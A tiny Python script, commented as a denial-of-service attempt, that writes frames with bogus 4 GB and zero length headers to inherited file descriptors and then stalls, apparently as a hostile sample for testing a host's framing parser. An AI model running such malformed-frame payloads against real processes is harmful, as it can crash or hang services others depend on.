# dos: a frame that says it is 4 GB long, and one of no length
import os,time
for fd in range(3,12):
    for head in (b'\xff\xff\xff\xff',b'\0\0\0\0'):
        try: os.write(fd,head+b'x'*100)
        except OSError: pass
time.sleep(60)
